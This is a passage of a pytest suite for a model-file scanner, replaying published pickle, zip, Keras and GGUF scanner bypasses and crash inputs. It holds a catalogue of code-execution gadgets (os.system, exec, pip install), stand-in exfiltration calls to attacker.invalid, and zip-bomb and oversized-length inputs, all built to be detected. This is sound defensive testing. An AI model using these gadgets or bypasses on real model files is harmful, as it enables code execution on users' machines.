"""Known bypasses and crashes of picklescan, modelscan and fickling, replayed against airlock.

Each case is rebuilt from the public issue/advisory that reported it (cited in ``source``)
with airlock's own builders (tests/scan/bypass_samples.py). Payloads would create a
sentinel file if they were ever loaded; every test asserts the sentinel never appears.
"""

from __future__ import annotations

import io
import pickle
import struct
import time
import tracemalloc
import uuid
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

from airlock.findings import Finding, Severity
from airlock.scan import scan_path
from scan import bypass_samples as bs
from scan.bypass_samples import call, dct, i1, lst, py_code, sg, sh_cmd, u

Files = Callable[[Path], dict[str, bytes]]
CODE_EXEC = frozenset({"pickle.dangerous-global", "pickle.unresolved-global"})


@dataclass(frozen=True)
class Case:
    """One known bypass: what to build, which rules must fire (at high or above)."""

    id: str
    source: str
    files: Files
    rules: frozenset[str] = CODE_EXEC
    names: tuple[str, ...] = ()  # evidence fragments that must be reported
    xfail: str | None = None
    min_severity: Severity = Severity.HIGH
    extra: dict[str, str] = field(default_factory=dict)


README = b"---\nlicense: apache-2.0\n---\n# test model\n"  # keeps license.* findings out


def scan_files(root: Path, files: dict[str, bytes]) -> list[Finding]:
    root.mkdir(parents=True, exist_ok=True)
    (root / "README.md").write_bytes(README)
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return scan_path(root, hash_files=False).findings


def one(name: str, build: Callable[[Path], bytes]) -> Files:
    return lambda s: {name: build(s)}


def pkl(build: Callable[[Path], bytes]) -> Files:
    return one("model.pkl", build)


# --- gadget callables: (id, source, module, qualname, args(sentinel)) ------------------------
Args = Callable[[Path], tuple[bytes, ...]]


def code(s: Path) -> tuple[bytes, ...]:
    return (u(py_code(s)),)


def cmd(s: Path) -> tuple[bytes, ...]:
    return (u(sh_cmd(s)),)


def inst(module: str, cls: str, *ctor_args: bytes) -> bytes:
    return call(sg(module, cls), *ctor_args)


GADGETS: list[tuple[str, str, str, str, Args]] = [
    ("exec", "baseline", "builtins", "exec", code),
    ("posix-system", "fickling#16 / os alias", "posix", "system", cmd),
    ("nt-system", "os alias on Windows", "nt", "system", cmd),
    ("pip-main", "CVE-2025-1716", "pip", "main",
     lambda s: (lst(u("install"), u("--no-index"), u("--find-links"), u(str(s.parent)),
                    u("pwned")),)),
    ("pip-internal", "CVE-2025-1716 variant", "pip._internal.cli.main", "main",
     lambda s: (lst(u("install"), u(str(s))),)),
    ("bdb-run", "picklescan PR#29 (debuggers)", "bdb", "Bdb.run",
     lambda s: (inst("bdb", "Bdb"), u(py_code(s)))),
    ("pdb-run", "picklescan PR#29", "pdb", "Pdb.run",
     lambda s: (inst("pdb", "Pdb"), u(py_code(s)))),
    ("timeit", "GHSA-46h3-79wf-xr6c", "timeit", "timeit", lambda s: (u("pass"), u(py_code(s)))),
    ("cprofile-run", "GHSA-46h3-79wf-xr6c", "cProfile", "run", code),
    ("profile-run", "GHSA-46h3-79wf-xr6c", "profile", "run", code),
    ("pydoc-pipepager", "picklescan advisories", "pydoc", "pipepager",
     lambda s: (u("x"), u(sh_cmd(s)))),
    ("trace-run", "GHSA-4675-36f9-wf6r", "trace", "Trace.run",
     lambda s: (inst("trace", "Trace"), u(py_code(s)))),
    ("code-runsource", "modelscan PR#313", "code", "InteractiveInterpreter.runsource",
     lambda s: (inst("code", "InteractiveInterpreter"), u(py_code(s)))),
    ("idlelib-get-entity", "GHSA-r8g5-cgf2-4m4m", "idlelib.autocomplete",
     "AutoComplete.get_entity", lambda s: (inst("idlelib.autocomplete", "AutoComplete"),
                                           u(py_code(s)))),
    ("lib2to3-make-label", "GHSA-r8g5-cgf2-4m4m", "lib2to3.pgen2.pgen",
     "ParserGenerator.make_label",
     lambda s: (bs.NONE, inst("lib2to3.pgen2.grammar", "Grammar"),
                u('"a" + str(' + py_code(s) + ")"))),
    ("lib2to3-grammar-loads", "picklescan scanner list", "lib2to3.pgen2.grammar",
     "Grammar.loads", lambda s: (inst("lib2to3.pgen2.grammar", "Grammar"),
                                 bs.by(bs.simple_call("posix", "system", *cmd(s))))),
    ("distutils-write-file", "CVE-2025-10155", "distutils.file_util", "write_file",
     lambda s: (u(str(s)), lst(u("x")))),
    ("io-fileio", "CVE-2025-10156", "_io", "FileIO", lambda s: (u(str(s)), u("w"))),
    ("io-open", "CVE-2025-10156", "io", "open", lambda s: (u(str(s)), u("w"))),
    ("shutil-copyfile", "picklescan PR#29", "shutil", "copyfile",
     lambda s: (u("/dev/null"), u(str(s)))),
    ("torch-bottleneck", "GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__",
     "run_cprofile", lambda s: (u(py_code(s)), bs.EMPTY_DICT)),
    ("torch-inductor", "picklescan advisories", "torch._inductor.codecache",
     "PyCodeCache.load", code),
    ("torch-collect-env", "GHSA-f745-w6jp-hpxx / modelscan#338", "torch.utils.collect_env",
     "run", cmd),
    ("torch-dynamo-guard", "GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get",
     lambda s: (bs.NONE, u(py_code(s)))),
    ("torch-fx-shapeenv", "GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes",
     "ShapeEnv.evaluate_guards_expression", lambda s: (bs.NONE, u(py_code(s)), lst())),
    ("torch-datapipes", "GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder",
     "basichandlers", lambda s: (u("x.pickle"), bs.by(bs.simple_call("posix", "system",
                                                                     *cmd(s))))),
    ("torch-jit-exec", "GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops",
     "execWrapper", lambda s: (u(py_code(s)), bs.EMPTY_DICT, bs.EMPTY_DICT)),
    ("torch-config-module", "GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module",
     "ConfigModule.load_config", lambda s: (bs.NONE, bs.by(bs.simple_call(
         "posix", "system", *cmd(s))))),
    ("numpy-f2py", "fickling PR#210", "numpy.f2py.crackfortran", "myeval", code),
    ("numpy-runstring", "picklescan scanner list", "numpy.testing._private.utils",
     "runstring", lambda s: (u(py_code(s)), bs.EMPTY_DICT)),
    ("asyncio-subprocess", "CVE-2025-10157", "asyncio.unix_events",
     "_UnixSubprocessTransport._start",
     lambda s: (bs.NONE, u(sh_cmd(s)), b"\x88", bs.NONE, bs.NONE, bs.NONE, i1(0))),
    ("posixsubprocess", "picklescan scanner list", "_posixsubprocess", "fork_exec",
     lambda s: (lst(bs.by(b"/bin/sh"), bs.by(b"-c"), bs.by(sh_cmd(s).encode())),)),
    ("ctypes-cdll", "fickling unsafe imports", "ctypes", "CDLL", lambda s: (u("libc.so.6"),)),
    ("uuid-command", "modelaudit PR#581", "uuid", "_get_command_stdout",
     lambda s: (u("touch"), u(str(s)))),
    ("webbrowser", "picklescan scanner list", "webbrowser", "open",
     lambda s: (u(f"file://{s}"),)),
    ("ensurepip", "GHSA-vqmv-47xg-9wpr", "ensurepip", "_run_pip",
     lambda s: (lst(u("install"), u(str(s))),)),
    ("venv-create", "GHSA-vqmv-47xg-9wpr", "venv", "create", lambda s: (u(str(s)),)),
    ("zipimport", "picklescan scanner list", "zipimport", "zipimporter",
     lambda s: (u(str(s)),)),
    ("spawnv-passfds", "modelscan#338", "multiprocessing.util", "spawnv_passfds",
     lambda s: (bs.by(b"/bin/sh"), lst(bs.by(b"sh"), bs.by(b"-c"), bs.by(sh_cmd(s).encode())),
                bs.EMPTY_TUPLE)),
    ("logging-listen", "config server evaluates what it receives", "logging.config", "listen",
     lambda s: (i1(0),)),
    ("pkgutil-resolve", "GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name",
     lambda s: (u("os:system"),)),
    ("importlib", "picklescan#66 / PR#74", "importlib", "import_module", lambda s: (u("os"),)),
    ("mailcap", "picklescan PR#69 / modelscan PR#346", "mailcap", "findmatch",
     lambda s: (dct(**{"text/plain": lst(dct(view=u("cat %s"), test=u(sh_cmd(s))))}),
                u("text/plain"))),
    ("subinterpreters", "GHSA-6ggj-6f2q-f7mx (fickling PR#302)", "_xxsubinterpreters",
     "run_string", lambda s: (inst("_xxsubinterpreters", "create"), u(py_code(s)))),
    ("mlflow-entry-point", "modelscan#338", "mlflow.projects.backend.local",
     "_run_entry_point", lambda s: (u(sh_cmd(s)), u("."), u(""), bs.EMPTY_DICT)),
    ("pandas-read-csv", "modelscan#338 (exfiltration)", "pandas.io.parsers.readers",
     "read_csv", lambda s: (u("https://attacker.invalid/?leak=1"),)),
    ("urlretrieve", "modelscan#338 (download)", "urllib.request", "urlretrieve",
     lambda s: (u("https://attacker.invalid/x"), u(str(s)))),
    ("codecs-open", "file write through codecs", "codecs", "open",
     lambda s: (u(str(s)), u("w"))),
    ("operator-methodcaller", "GHSA-m273-6v24-x4m4", "_operator", "methodcaller",
     lambda s: (u("system"), u(sh_cmd(s)))),
    ("operator-attrgetter", "GHSA-955r-x9j8-7rhh", "_operator", "attrgetter",
     lambda s: (u("system"),)),
    ("numpy-load", "numpy.load inside a pickle", "numpy", "load",
     lambda s: (u(str(s)), bs.NONE, b"\x88")),
    ("torch-load", "torch.load inside a pickle", "torch.serialization", "load",
     lambda s: (u(str(s)),)),
]  # fmt: skip


SUSPICIOUS_BY_DESIGN = frozenset({"codecs-open"})  # also a plain reader: high, not critical


def _gadget_case(gid: str, source: str, module: str, name: str, args: Args) -> Case:
    rules = CODE_EXEC | {"pickle.suspicious-global"} if gid in SUSPICIOUS_BY_DESIGN else CODE_EXEC
    return Case(
        f"gadget-{gid}",
        source,
        pkl(lambda s: bs.simple_call(module, name, *args(s))),
        rules=rules,
        names=(f"{module}.{name}",),
    )


def _attrgetter_chain(s: Path) -> bytes:
    """attrgetter("system")(importlib.import_module("os"))(cmd): picklescan PR#25's chain."""
    getter = call(sg("operator", "attrgetter"), u("system"))
    fn = call(getter, call(sg("importlib", "import_module"), u("os")))
    return bs.pk(call(fn, u(sh_cmd(s))))


def _getattr_on_allowed(s: Path) -> bytes:
    """builtins.getattr on an allowed module returns a dangerous attribute."""
    fn = call(sg("builtins", "getattr"), sg("torch", "serialization"), u("load"))
    return bs.pk(call(fn, u(str(s))))


def _modelscan_331(s: Path) -> bytes:
    """modelscan#331: importlib.import_module("builtins") + builtins.getattr chains."""
    mod = call(sg("importlib", "import_module"), u("builtins"))
    ev = call(sg("builtins", "getattr"), mod, u("eval"))
    return bs.pk(call(ev, u(py_code(s))))


STRUCTURAL: list[Case] = [
    Case("memo-binput-memoize-mix", "picklescan#14", pkl(bs.memo_confusion),
         names=("os.system",)),
    Case("memo-text-put", "picklescan#22", pkl(bs.text_put_confusion), names=("os.system",)),
    Case("build-setattr-stack-global", "modelscan#85", pkl(bs.build_attr_confusion),
         rules=frozenset({"pickle.unresolved-global"})),
    Case("numpy-builtins-dict", "modelscan#89 / #330", pkl(bs.numpy_builtins_dict),
         names=("numpy.__builtins__",)),
    Case("numpy-dotted-sys-modules", "modelscan#89", pkl(bs.numpy_sys_modules),
         names=("numpy.prod.os.system",)),
    Case("computed-module-operand", "modelscan#331", pkl(bs.computed_module_name),
         rules=frozenset({"pickle.unresolved-global"})),
    Case("importlib-getattr-chain", "modelscan#331", pkl(_modelscan_331),
         names=("importlib.import_module", "builtins.getattr")),
    Case("attrgetter-chain", "picklescan PR#25", pkl(_attrgetter_chain),
         names=("operator.attrgetter",)),
    Case("getattr-on-allowed-module", "getattr(torch, 'load')", pkl(_getattr_on_allowed),
         names=("builtins.getattr",)),
    Case("py2-builtin-name", "__builtin__ vs builtins",
         pkl(lambda s: bs.pk(call(bs.tg("__builtin__", "eval"), u(py_code(s))),
                             proto=bs.PROTO2)), names=("__builtin__.eval",)),
    Case("inst-opcode", "picklescan#13", pkl(bs.inst_opcode), names=("builtins.exec",)),
    Case("obj-opcode", "fickling#108", pkl(bs.obj_opcode), names=("builtins.exec",)),
    Case("pty-spawn-obj", "fickling PR#108", pkl(bs.pty_spawn), names=("pty.spawn",)),
    Case("marshal-functiontype", "picklescan PR#74", pkl(bs.marshal_payload),
         names=("marshal.loads", "types.FunctionType")),
    Case("nullifai-broken-stream", "nullifAI (ReversingLabs), fickling#138",
         pkl(bs.broken_stream), names=("os.system",)),
    Case("nested-pickle-loads", "modelscan#267, GHSA-84r2-jw7c-4r5q",
         pkl(lambda s: bs.nested_loads(s, ("pickle", "loads"))),
         names=("pickle.loads", "posix.system")),
    Case("nested-torch-load-from-bytes", "torch.storage._load_from_bytes",
         pkl(lambda s: bs.nested_loads(s, ("torch.storage", "_load_from_bytes"))),
         names=("posix.system",)),
    Case("inner-pickle-in-bytes-constant", "pickle hidden in a constant",
         pkl(bs.hidden_inner_pickle), names=("subprocess.check_call",)),
    Case("second-pickle-after-stop", "picklescan multiple pickles",
         pkl(bs.benign_then_malicious), names=("os.system",)),
    Case("headerless-pickle-pkl", "no PROTO opcode",
         pkl(bs.headerless_stack_global), names=("posix.system",)),
    Case("headerless-pickle-bin", "torch.load legacy path unpickles any non-zip file",
         one("pytorch_model.bin", bs.headerless_stack_global), names=("posix.system",)),
    Case("framed-headerless-bin", "FRAME without PROTO",
         one("pytorch_model.bin", bs.framed_headerless), names=("posix.system",)),
    Case("headerless-non-standard-extension", "GHSA-769v-p64c-89pr + no PROTO",
         one("weights.model", bs.headerless_stack_global), names=("posix.system",)),
    Case("non-standard-extension", "GHSA-769v-p64c-89pr",
         one("weights.model", lambda s: bs.simple_call("os", "system", *cmd(s))),
         names=("os.system",)),
    Case("no-extension", "GHSA-769v-p64c-89pr",
         one("checkpoint", lambda s: bs.simple_call("os", "system", *cmd(s))),
         names=("os.system",)),
    Case("legacy-torch-sys-info", "legacy torch.save layout, payload in sys_info",
         one("pytorch_model.bin", lambda s: bs.legacy_torch(s, 2)), names=("posix.system",)),
    Case("legacy-torch-storage-keys", "legacy torch.save layout, payload in storage keys",
         one("pytorch_model.bin", lambda s: bs.legacy_torch(s, 4)), names=("posix.system",)),
    Case("legacy-torch-magic", "legacy torch.save layout, payload in the magic pickle",
         one("model.pt", lambda s: bs.legacy_torch(s, 0)), names=("posix.system",)),
]  # fmt: skip


def _payload(s: Path) -> bytes:
    return bs.simple_call("posix", "system", *cmd(s))


def _zip_case(
    cid: str, source: str, name: str, build: Callable[[bytes], bytes], **kw: object
) -> Case:
    return Case(cid, source, one(name, lambda s: build(_payload(s))), **kw)  # type: ignore[arg-type]


ZIPS: list[Case] = [
    _zip_case("torch-zip", "baseline torch.save zip", "model.pt", bs.torch_zip,
              names=("posix.system",)),
    _zip_case("zip-bad-crc", "GHSA-7q5r-7gvp-wc82", "model.pt",
              lambda p: bs.zip_bad_crc(bs.torch_zip(p)),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-flag-bit-encrypted", "GHSA-w8jq-xcqf-f792 (bit 0)", "model.pt",
              lambda p: bs.zip_flag_bits(bs.torch_zip(p), 0x1),
              rules=frozenset({"zip.encrypted", "pickle.dangerous-global"})),
    _zip_case("zip-flag-bit-patched", "GHSA-w8jq-xcqf-f792 (bit 5)", "model.pt",
              lambda p: bs.zip_flag_bits(bs.torch_zip(p), 0x20),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-flag-bit-strong-enc", "GHSA-w8jq-xcqf-f792 (bit 6)", "model.pt",
              lambda p: bs.zip_flag_bits(bs.torch_zip(p), 0x40),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-name-mismatch", "local/central name differ", "model.pt",
              lambda p: bs.zip_local_name(bs.torch_zip(p), b"archive/data.pkl",
                                          b"archive/data.txt"),
              rules=frozenset({"zip.name-mismatch"})),
    _zip_case("zip-name-mismatch-payload", "local/central name differ", "model.pt",
              lambda p: bs.zip_local_name(bs.torch_zip(p), b"archive/data.pkl",
                                          b"archive/data.txt"),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-pickle-odd-member-name", "GHSA-769v-p64c-89pr (member extension)",
              "model.pt", lambda p: bs.torch_zip(pickle.dumps({}, 2),
                                                 {"archive/extra/blob.weights": p}),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-corrupt-member-first", "modelscan#354", "model.pt", bs.zip_corrupt_first,
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-in-zip", "modelscan PR#106 (nested zips)", "bundle.zip",
              lambda p: bs.zip_bytes({"inner/model.pt": bs.torch_zip(p)}),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-deflated", "deflated data.pkl", "model.pt",
              lambda p: bs.zip_bytes({"archive/data.pkl": p}, deflate=True),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("pickle-zip-polyglot", "pickle first, zip appended", "model.pt",
              bs.polyglot_pickle_zip, rules=frozenset({"pickle.dangerous-global"}),
              names=("posix.system",)),
    _zip_case("npz-object-array", "np.load(allow_pickle) of an .npz member", "arrays.npz",
              lambda p: bs.zip_bytes({"a.npy": _npy_object(p)}),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("zip-headerless-data-pkl", "data.pkl without PROTO", "model.pt",
              lambda p: bs.torch_zip(p[2:]), rules=frozenset({"pickle.dangerous-global"}),
              names=("posix.system",)),
    _zip_case("zip-duplicate-data-pkl", "two data.pkl members, clean one first", "model.pt",
              lambda p: bs.zip_duplicate(pickle.dumps({}, 2), p),
              rules=frozenset({"pickle.dangerous-global"}), names=("posix.system",)),
    _zip_case("7z-wrapped", "nullifAI (7z-compressed model)", "model.7z",
              lambda p: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + zlib.compress(p),
              rules=frozenset({"file.nested-archive"}), min_severity=Severity.MEDIUM),
]  # fmt: skip


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    raw = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload


OTHER_FORMATS: list[Case] = [
    Case("gguf-chat-template-ssti", "CVE-2024-34359 (llama-cpp-python)",
         one("model.gguf", lambda s: bs.gguf_with_template(bs.ssti_template(s))),
         rules=frozenset({"template.ssti"})),
    Case("keras-lambda", "CVE-2024-3660",
         one("model.keras", lambda s: bs.keras_zip(bs.keras_lambda(s))),
         rules=frozenset({"keras.lambda-layer"})),
    Case("keras-function-os", "CVE-2025-1550",
         one("model.keras", lambda s: bs.keras_zip(bs.keras_function_ref(
             "os", "system", sh_cmd(s)))), rules=frozenset({"keras.dangerous-reference"})),
    Case("keras-get-file", "CVE-2025-8747 (keras.utils.get_file)",
         one("model.keras", lambda s: bs.keras_zip(bs.keras_function_ref(
             "keras.utils", "get_file", str(s)))),
         rules=frozenset({"keras.dangerous-reference"})),
    Case("keras-function-timeit", "CVE-2025-1550 with a gadget outside keras' module list",
         one("model.keras", lambda s: bs.keras_zip(bs.keras_function_ref(
             "timeit", "timeit", py_code(s)))), rules=frozenset({"keras.dangerous-reference"})),
]  # fmt: skip

CASES: list[Case] = [_gadget_case(*g) for g in GADGETS] + STRUCTURAL + ZIPS + OTHER_FORMATS


def _params() -> list[object]:
    out: list[object] = []
    for c in CASES:
        marks = [pytest.mark.xfail(strict=True, reason=c.xfail)] if c.xfail else []
        out.append(pytest.param(c, id=c.id, marks=marks))
    return out


@pytest.mark.parametrize("case", _params())
def test_known_bypass_is_caught(case: Case, tmp_path: Path) -> None:
    sentinel = tmp_path / "pwned"
    files = case.files(sentinel)
    findings = scan_files(tmp_path / "model", files)
    hits = [f for f in findings if f.rule_id in case.rules and f.severity >= case.min_severity]
    got = sorted({(f.rule_id, str(f.severity), f.evidence) for f in findings})
    assert hits, f"{case.id} ({case.source}) not caught; findings: {got}"
    for name in case.names:
        assert any(name in (f.evidence or "") for f in hits), f"{name} not named: {got}"
    assert not sentinel.exists()


def test_every_gadget_module_is_in_the_deny_list() -> None:
    """The data file names each gadget family, so a renamed helper cannot slip past."""
    from airlock.scan.pickles import Judge

    judge = Judge()
    for gid, _src, module, name, _args in GADGETS:
        if gid in SUSPICIOUS_BY_DESIGN:
            continue
        assert judge.verdict(module, name) == "dangerous", f"{module}.{name}"


# --- near misses: clean files that must stay below high ----------------------------------------
def _state_dict_pickle() -> bytes:
    """A torch-style state dict built by hand: OrderedDict of _rebuild_tensor_v2 calls."""
    pid = b"(" + u("storage") + sg("torch", "FloatStorage") + u("0") + u("cpu") + i1(4) + b"tQ"
    tensor = call(
        sg("torch._utils", "_rebuild_tensor_v2"),
        pid,
        i1(0),
        b"K\x02K\x02\x86",
        b"K\x02K\x01\x86",
        b"\x89",
        call(sg("collections", "OrderedDict")),
    )
    body = call(sg("collections", "OrderedDict")) + b"(" + u("layer.weight") + tensor + b"u"
    return bs.pk(body)


def _strings_only() -> bytes:
    """The words of an attack as plain data: nothing is imported."""
    return pickle.dumps({"cmd": "os.system", "mods": ["os", "system", "subprocess", "eval"]}, 4)


def _legacy_clean() -> bytes:
    parts: list[object] = [bs.TORCH_MAGIC, 1001, {"little_endian": True}, {}, []]
    return b"".join(pickle.dumps(x, 2) for x in parts)


NEAR_MISSES: list[tuple[str, Callable[[], dict[str, bytes]]]] = [
    ("state-dict-pickle", lambda: {"model.pkl": _state_dict_pickle()}),
    ("torch-zip-state-dict", lambda: {"model.pt": bs.torch_zip(_state_dict_pickle())}),
    ("attack-words-as-data", lambda: {"model.pkl": _strings_only()}),
    ("numpy-array-p2", lambda: {"arr.pkl": pickle.dumps(np.arange(6.0).reshape(2, 3), 2)}),
    ("numpy-array-p5", lambda: {"arr.pkl": pickle.dumps({"a": np.ones(3, np.float32)}, 5)}),
    ("plain-values", lambda: {"meta.pkl": pickle.dumps(
        [1, 2.5, "x", b"y", None, {1, 2}, frozenset(), bytearray(b"z"), 10**30], 4)}),
    ("uuid-allowed", lambda: {"ids.pkl": pickle.dumps(
        uuid.UUID(int=1), 2)}),
    ("legacy-torch-clean", lambda: {"pytorch_model.bin": _legacy_clean()}),
    ("bytes-constant-not-pickle", lambda: {"blob.pkl": pickle.dumps(
        {"data": b"\x80\x05not a pickle at all" + bytes(100)}, 4)}),
    ("gguf-normal-template", lambda: {"model.gguf": bs.gguf_with_template(
        "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}")}),
    ("keras-dense", lambda: {"model.keras": bs.keras_zip(bs.keras_model(
        {"module": "keras.layers", "class_name": "Dense",
         "config": {"name": "d", "units": 2, "activation": "relu"}}))}),
]  # fmt: skip


@pytest.mark.parametrize(("name", "build"), NEAR_MISSES, ids=[n for n, _ in NEAR_MISSES])
def test_near_miss_stays_below_high(
    name: str, build: Callable[[], dict[str, bytes]], tmp_path: Path
) -> None:
    findings = scan_files(tmp_path / "m", build())
    high = [(f.rule_id, f.evidence) for f in findings if f.severity >= Severity.HIGH]
    assert high == [], f"{name}: {high}"
    assert not any(f.rule_id.startswith("pickle.") for f in findings if f.severity >= 2), [
        (f.rule_id, f.evidence) for f in findings
    ]


def test_posixpath_join_is_not_high(tmp_path: Path) -> None:
    """os is denied wholesale, but an unknown harmless callable is medium, not critical."""
    data = bs.simple_call("posixpath", "join", u("a"), u("b"))
    findings = scan_files(tmp_path / "m", {"m.pkl": data})
    pickle_findings = [f for f in findings if f.rule_id.startswith("pickle.")]
    assert [(f.rule_id, f.severity) for f in pickle_findings] == [
        ("pickle.unknown-global", Severity.MEDIUM)
    ]


def test_trailing_garbage_is_low(tmp_path: Path) -> None:
    """Junk after STOP is reported (low); it is not an import, so not high."""
    data = pickle.dumps({"w": [1.0, 2.0]}, 4) + b"\x00\x01junk" * 10
    findings = scan_files(tmp_path / "m", {"m.pkl": data})
    assert [(f.rule_id, f.severity) for f in findings if f.rule_id.startswith("pickle.")] == [
        ("pickle.trailing-data", Severity.LOW)
    ]


def test_proto_above_5_is_reported_not_executed(tmp_path: Path) -> None:
    """CPython refuses protocol 6+, so this is malformed, not code execution."""
    sentinel = tmp_path / "pwned"
    findings = scan_files(tmp_path / "m", {"m.pkl": bs.proto_above_5(sentinel)})
    assert "pickle.malformed" in {f.rule_id for f in findings}
    assert not sentinel.exists()


@pytest.mark.parametrize(
    "kind", ["SHORT_BINSTRING", "BINSTRING", "BINUNICODE", "BINUNICODE8", "STRING", "UNICODE"]
)
def test_stack_global_with_rare_string_opcodes(kind: str, tmp_path: Path) -> None:
    """modelscan PR#313: operands built with protocol-0/1 or 8-byte-length string opcodes."""
    sentinel = tmp_path / "pwned"
    findings = scan_files(tmp_path / "m", {"m.pkl": bs.string_opcode_operands(sentinel, kind)})
    names = {f.evidence for f in findings if f.rule_id == "pickle.dangerous-global"}
    assert "os.system" in names, [(f.rule_id, f.evidence) for f in findings]
    assert not sentinel.exists()


# --- crash hunt: inputs that crashed or hung a peer -------------------------------------------
def _many_big_memo_keys() -> bytes:
    keys = b"".join(b"r" + struct.pack("<I", 0x80000000 + k * 7919) for k in range(110_000))
    return b"\x80\x04N" + keys + b"j\xff\xff\xff\x7f."


def _nested_zips(depth: int, payload: bytes) -> bytes:
    data = bs.torch_zip(payload)
    for i in range(depth):
        data = bs.zip_bytes({f"level{i}.zip": data})
    return data


def _recursive_embedded(depth: int) -> bytes:
    data = bs.simple_call("posix", "system", u("true"))
    for _ in range(depth):
        data = bs.pk(call(sg("pickle", "loads"), bs.by(data)))
    return data


def _zip_bomb() -> bytes:
    return bs.zip_bytes({"archive/data.pkl": bytes(64 << 20)}, deflate=True)


def _eocd_lies() -> bytes:
    raw = bs.torch_zip(pickle.dumps({}, 2))
    i = raw.rfind(b"PK\x05\x06")
    return (
        raw[:i]
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFF0, 0xFFFFFFF0, 0)
    )


def crash(cid: str, source: str, name: str, build: Callable[[], bytes], *,
          memory: bool = True, xfail: str | None = None) -> object:  # fmt: skip
    marks = [pytest.mark.xfail(strict=True, reason=xfail)] if xfail else []
    return pytest.param(cid, source, name, build, memory, id=cid, marks=marks)


CRASHES: list[object] = [
    crash("opcode-0x03", "picklescan#18", "m.pkl", lambda: b"\x80\x02\x03\x00."),
    crash("stack-global-empty", "picklescan-gui#5", "m.pkl", lambda: b"\x80\x04\x93."),
    crash("tuple-without-mark", "fickling#188", "m.pkl", lambda: b"\x80\x02K\x01t."),
    crash("newobj-ex-underflow", "cpython#85460", "m.pkl", lambda: b"\x80\x04NN\x92."),
    crash("only-marks", "mark stack growth", "m.pkl", lambda: b"\x80\x04" + b"(" * 200_000),
    crash("deep-nested-lists", "recursive AST builders (fickling)", "m.pkl",
          lambda: b"\x80\x04" + b"(" * 150_000 + b"l" * 150_000 + b"."),
    crash("deep-append-chain", "recursive AST builders", "m.pkl",
          lambda: b"\x80\x04" + b"]" * 100_000 + b"a" * 99_999 + b"."),
    crash("push-run-1mib", "long runs of one opcode", "m.pkl",
          lambda: b"\x80\x04" + b"N" * (1 << 20) + b"."),
    crash("push-run-1mib-zipped", "64 KiB zip member inflating to a push run", "model.pt",
          lambda: bs.zip_bytes({"archive/data.pkl": b"\x80\x04" + b"N" * (4 << 20)},
                               deflate=True)),
    crash("huge-memo-index", "memo as a dense list", "m.pkl",
          lambda: b"\x80\x04Nr\xff\xff\xff\xffj\xfe\xff\xff\xff."),
    crash("many-huge-memo-keys", "memo as a dense list", "m.pkl", _many_big_memo_keys),
    crash("binunicode8-2e63", "length trusted before reading", "m.pkl",
          lambda: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 63) + b"abc."),
    crash("binbytes-4g", "length trusted before reading", "m.pkl",
          lambda: b"\x80\x04B\xff\xff\xff\xffabc."),
    crash("bytearray8-huge", "length trusted before reading", "m.pkl",
          lambda: b"\x80\x05\x96" + struct.pack("<Q", (1 << 64) - 1) + b"."),
    crash("frame-huge", "FRAME length", "m.pkl",
          lambda: b"\x80\x04\x95" + struct.pack("<Q", (1 << 64) - 1) + b"N."),
    crash("long4-huge", "LONG4 length", "m.pkl", lambda: b"\x80\x02\x8b\xff\xff\xff\x7f\x01."),
    crash("text-line-unterminated", "readline without bound", "m.pkl",
          lambda: b"cos\n" + b"A" * (3 << 20)),
    crash("stray-newlines", "picklescan PR#26", "m.pkl", lambda: b"\x80\x02N\n\n."),
    crash("many-tiny-opcodes", "per-opcode cost", "m.pkl",
          lambda: b"\x80\x04" + b"N0" * 1_500_000 + b"N.", memory=False),
    crash("recursive-embedded", "nested pickle.loads", "m.pkl", lambda: _recursive_embedded(12)),
    crash("nested-zips", "modelscan PR#106", "deep.zip",
          lambda: _nested_zips(7, pickle.dumps({}, 2))),
    crash("zip-bomb-member", "inflate without bound", "model.pt", _zip_bomb),
    crash("zip-eocd-lies", "central directory counts", "model.pt", _eocd_lies),
    crash("zip-truncated", "half a zip", "model.pt",
          lambda: bs.torch_zip(pickle.dumps(list(range(5000)), 2))[:3000]),
    crash("gguf-huge-counts", "GGUF declared counts", "m.gguf",
          lambda: b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 62)),
    crash("gguf-huge-string", "GGUF declared string length", "m.gguf",
          lambda: b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60) + b"k"),
    crash("legacy-torch-truncated", "legacy torch layout cut short", "pytorch_model.bin",
          lambda: pickle.dumps(bs.TORCH_MAGIC, 2) + pickle.dumps(1001, 2)),
]  # fmt: skip


@pytest.mark.parametrize(("cid", "source", "name", "build", "memory"), CRASHES)
def test_peer_crash_input_is_bounded(
